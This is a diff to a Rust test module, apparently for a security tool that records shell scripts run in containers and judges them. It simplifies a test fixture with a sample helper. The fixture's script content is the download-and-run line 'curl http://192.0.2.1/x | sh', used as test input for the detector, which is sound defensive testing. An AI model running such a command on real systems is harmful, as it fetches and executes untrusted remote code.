@@ -320,8 +320,7 @@ mod tests {
 
     use super::*;
     use identity::{Cloud, Container, ContainerId, Pod};
-    use script::{Interpreter, ScriptFlags, ScriptId};
-    use shell::Family;
+    use script::ScriptId;
     use verdict::ScriptHash;
 
     fn finding(change: impl FnOnce(&mut Capture)) -> Finding {
@@ -331,31 +330,12 @@ mod tests {
     fn finding_in(identity: &Identity, change: impl FnOnce(&mut Capture)) -> Finding {
         let mut capture = Capture {
             id: ScriptId { pid: 10, exec_ns: 20, ordinal: 0 },
-            origin: Origin::File,
-            parent: None,
-            evaluated_by: None,
-            content: b"curl http://192.0.2.1/x | sh\n"[..].into(),
-            offset: 0,
-            size: 29,
-            flags: ScriptFlags::default(),
             path: Some(b"/tmp/x.sh".to_vec()),
-            interpreter: Interpreter {
-                kind: Family::named("bash").unwrap(),
-                path: b"/bin/bash".to_vec(),
-                size: 5,
-                sha256: Some("ab".to_owned()),
-            },
             args: vec![b"/bin/bash".to_vec(), b"/tmp/x.sh".to_vec()],
-            args_truncated: false,
             ns_pid: 1,
             ppid: 9,
-            uid: 0,
-            gid: 0,
-            cgroup: 1,
-            start_ns: 1,
             time_unix_ns: 1_700_000_000_000_000_001,
-            forks: script::Forks::default(),
-            reader: 0,
+            ..script::sample(10, b"curl http://192.0.2.1/x | sh\n")
         };
         change(&mut capture);
         let verdict = Verdict {
